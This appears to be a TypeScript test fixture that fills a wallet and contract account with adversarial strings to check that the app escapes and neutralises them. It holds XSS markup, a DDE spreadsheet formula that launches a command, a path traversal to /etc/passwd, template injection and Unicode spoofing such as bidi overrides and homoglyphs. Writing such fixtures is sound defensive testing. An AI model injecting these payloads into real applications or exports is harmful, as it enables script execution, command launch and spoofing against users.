import type { BigAccount } from './big-account';
import { smallContract, smallWallet } from './small-account';

/** Texts that the app must show inert, marked and escaped, and must neutralise in exports. */
export const hostileTexts = {
  rightToLeftOverride: 'Payroll \u202Egnp.exe\u202C account',
  bidiIsolate: '\u2067Escrow\u2069 \u200Fdesk',
  zeroWidth: 'Pay\u200Broll\u200D\u2060 \uFEFFdesk\u00AD',
  tagCharacters: `Vault${String.fromCodePoint(0xe0041, 0xe0042)}`,
  zalgo: `V${'\u0300\u0316\u0489'.repeat(60)}ault`,
  homoglyph: '\u041Eper\u0430ting \u0430cc\u043Eunt',
  confusableAddress: '0x5\u0430Aeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
  imageMarkup: '<img src=x onerror="document.title=\'ran\'">',
  scriptMarkup: '</td></script><script>document.title="ran"</script>',
  svgMarkup: '<svg/onload=document.title="ran">',
  scriptUrl: 'javascript:document.title="ran"',
  formula: '=HYPERLINK("https://example.com/?"&A1,"open")',
  formulaPlus: "+1+cmd|' /C calc'!A0",
  formulaMinus: '-2+3',
  formulaAt: '@SUM(1+1)',
  formulaFullWidth: '\uFF1D1+1',
  formulaAfterTab: '\t=1+1',
  csvQuotes: 'a "quoted", value; with \'both\'',
  newline: 'first line\nsecond line\r\n=1+1',
  nul: 'before\u0000after',
  controls: 'bell\u0007 escape\u001B[31mred\u001B[0m \u009B31m',
  lineSeparator: 'one\u2028two\u2029three',
  loneSurrogate: 'half \uD83C of a flag',
  template: '${7*7} {{7*7}} %s %n',
  path: '../../../etc/passwd',
  deviceName: 'CON.txt',
  prototypeKey: '__proto__',
  whitespace: ' \u00A0\u3000 ',
  empty: '',
  emojiSequence:
    '\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08',
} as const;

const megabyteName = 'M'.repeat(1024 * 1024);

/** Returns an account with one wallet and one contract per hostile text, in all fields, and with hostile identity. */
export function hostileAccount(): BigAccount {
  const texts = Object.values(hostileTexts);
  return {
    userId: hostileTexts.imageMarkup,
    name: hostileTexts.rightToLeftOverride,
    email: hostileTexts.formula,
    wallets: [
      smallWallet,
      ...texts.map((text) => ({ id: text, asset: text, walletAddress: text, walletName: text })),
      { ...smallWallet, id: 'wallet-1-mb', walletName: megabyteName },
    ],
    smartContracts: [
      smallContract,
      ...texts.map((text) => ({
        name: text,
        asset: text,
        address: text,
        type: text,
        deployedAt: text,
        deployedBy: text,
      })),
      { ...smallContract, name: megabyteName },
    ],
  };
}
